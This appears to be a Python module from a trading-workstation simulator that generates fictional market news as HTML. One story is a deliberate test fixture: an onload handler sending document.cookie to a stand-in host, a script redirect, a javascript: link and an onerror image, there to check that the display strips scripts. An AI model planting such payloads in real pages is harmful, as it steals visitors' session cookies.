"""The venue's news: three days of made-up stories before the start, and a new one every minute and a half or so.

Bodies are HTML as the venue sends it, with links; one story of the past carries a script and an event handler, so that
whoever shows news can prove that it cleans them away.
"""

from dataclasses import dataclass
from hashlib import md5
from random import Random

from workstation.simulators.otc.venue_time import HOUR_MS, MINUTE_MS

PAST_TOPICS = 36
_PAST_MS = 72 * HOUR_MS
_EVERY_MS = 90_000
_KEPT = 1_000

_SUBJECTS = (
    ("EURUSD", "the Euro"),
    ("GBPUSD", "the Pound"),
    ("USDJPY", "the Yen"),
    ("DE40", "the DAX"),
    ("US500", "American shares"),
    ("GOLD", "gold"),
    ("OIL", "crude oil"),
    ("BITCOIN", "Bitcoin"),
)
_TURNS = (
    ("steadies ahead of central bank minutes", "Traders wait for the minutes and keep positions small."),
    ("gives back morning gains", "Early buyers took profits after two quiet sessions."),
    ("breaks out of a week-long range", "Volumes rose when the upper edge of the range gave way."),
    ("slips as yields rise", "Ten-year yields reached their highest close of the month."),
    ("little changed in thin trade", "Holidays in several centres kept desks half empty."),
    ("rallies on strong data", "Figures beat every forecast in the survey."),
)
_SCRIPTED = (
    "<html><body onload=\"fetch('https://example.invalid/?'+document.cookie)\"><p>A story with a script in it.</p>"
    '<script>window.location="https://example.invalid/";</script>'
    '<p><a href="javascript:alert(1)">Do not follow</a> <img src="x" onerror="alert(2)">Plain end.</p></body></html>'
)


@dataclass(frozen=True, slots=True)
class Topic:
    """One story."""

    key: str
    time_ms: int
    title: str
    body: str


class NewsWire:
    """All stories, oldest first."""

    def __init__(self, *, seed: int, now_ms: int) -> None:
        """Write the past up to `now_ms`."""
        self._rng = Random(f"{seed}:news")
        self._written = 0
        step = _PAST_MS // PAST_TOPICS
        self._topics = [
            self._write(now_ms - _PAST_MS + turn * step + self._rng.randrange(step), scripted=turn == PAST_TOPICS // 2)
            for turn in range(PAST_TOPICS)
        ]
        self._next_ms = now_ms + _EVERY_MS

    def between(self, start_ms: int, end_ms: int) -> list[Topic]:
        """Return the stories of that time, both ends included."""
        return [topic for topic in self._topics if start_ms <= topic.time_ms <= end_ms]

    def due(self, now_ms: int) -> Topic | None:
        """Write the next story if it is time for it."""
        if now_ms < self._next_ms:
            return None
        self._next_ms = now_ms + _EVERY_MS + self._rng.randrange(MINUTE_MS)
        topic = self._write(now_ms, scripted=False)
        self._topics = [*self._topics[-_KEPT:], topic]
        return topic

    def _write(self, time_ms: int, *, scripted: bool) -> Topic:
        self._written += 1
        symbol, subject = self._rng.choice(_SUBJECTS)
        turn, sentence = self._rng.choice(_TURNS)
        link = f"https://example.com/analysis/{symbol.lower()}"
        body = (
            f"<html><body><h3>{symbol}</h3><p>{sentence} <b>{symbol}</b> was last seen "
            f"{self._rng.choice(('higher', 'lower', 'unchanged'))}.</p>"
            f'<p>More in the <a href="{link}">daily analysis</a>.</p></body></html>'
        )
        return Topic(
            key=md5(f"{time_ms}:{self._written}".encode(), usedforsecurity=False).hexdigest(),
            time_ms=time_ms,
            title=f"{subject[0].upper()}{subject[1:]} {turn}",
            body=_SCRIPTED if scripted else body,
        )
